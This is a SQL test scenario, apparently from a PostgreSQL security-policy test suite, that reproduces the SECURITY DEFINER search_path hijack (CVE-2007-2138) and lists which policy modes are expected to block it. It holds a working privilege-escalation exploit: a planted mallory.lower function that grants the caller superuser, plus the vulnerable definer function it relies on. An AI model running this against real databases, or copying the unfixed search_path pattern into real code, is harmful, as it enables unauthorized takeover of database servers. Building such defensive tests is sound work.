/*---
title: SECURITY DEFINER function without a fixed search_path
pattern: SECURITY DEFINER search_path hijack (CVE-2007-2138)
description: >
  alice, a superuser, offers everyone admin.account_exists(text), a SECURITY DEFINER
  function with no SET search_path, so it resolves names in the caller's search_path.
  mallory puts her own schema before pg_catalog, plants mallory.lower(text) and calls the
  function: the definer function calls mallory's lower with alice's rights.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: statement, object: SELECT admin.account_exists('Mallory'), owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: statement, object: SELECT admin.account_exists('Mallory'), owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: statement, object: SELECT admin.account_exists('Mallory'), owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: statement, object: SELECT admin.account_exists('Mallory'), owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: statement, object: SELECT admin.account_exists('Mallory'), owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.lower(text), owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: statement, object: SELECT admin.account_exists('Mallory'), owner: mallory}
---*/

-- @setup
CREATE SCHEMA admin AUTHORIZATION alice;
GRANT USAGE ON SCHEMA admin TO PUBLIC;
CREATE SCHEMA mallory AUTHORIZATION mallory;
SET ROLE alice;
-- The accounts are the scenario's own rows, not pg_roles: lower() runs once per row scanned, and pg_roles grows with
-- every other scenario running on the same cluster (suite run -j 2), which would change the traffic between runs.
CREATE TABLE admin.accounts (name text PRIMARY KEY);
INSERT INTO admin.accounts VALUES ('alice'), ('mallory');
CREATE FUNCTION admin.account_exists(p_name text) RETURNS boolean
LANGUAGE plpgsql SECURITY DEFINER AS $$
BEGIN
  RETURN EXISTS (SELECT 1 FROM admin.accounts WHERE name = lower(p_name));
END $$;
RESET ROLE;

-- @step mallory
CREATE FUNCTION mallory.lower(text) RETURNS text
LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
    ALTER ROLE mallory SUPERUSER;
  END IF;
  RETURN pg_catalog.lower($1);
END $$;
SET search_path = mallory, pg_catalog;
SELECT admin.account_exists('Mallory');
